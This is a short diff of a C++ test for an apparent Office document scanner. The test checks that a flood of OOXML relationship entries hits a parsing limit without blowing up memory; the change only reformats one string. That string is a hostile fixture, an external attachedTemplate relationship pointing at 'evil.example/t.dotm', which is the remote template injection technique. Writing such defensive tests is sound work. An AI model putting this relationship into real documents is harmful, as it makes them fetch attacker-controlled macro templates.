@@ -90,8 +90,9 @@ TEST(Hostile, OoxmlBrokenTagFloodStopsAtTheBudget) {
 // Case 1: four million .rels entries -> a map entry each. Past k_max_tags the rest
 // is not read, and that is a limit finding; a remote template before it is kept.
 TEST(Hostile, OoxmlRelationshipFloodIsALimitNotAMemoryBlowUp) {
-    std::string rels = "<Relationships><Relationship Id=\"t\" Type=\"http://x/attachedTemplate\" "
-                       "Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>";
+    std::string rels =
+        "<Relationships><Relationship Id=\"t\" Type=\"http://x/attachedTemplate\" "
+        "Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>";
     for (int i = 0; i < 150'000; ++i) rels += "<Relationship Id=\"r\" Type=\"t\" Target=\"a\"/>";
     rels += "</Relationships>";
     auto r = run_office(ooxml(rels), /*spent=*/false);
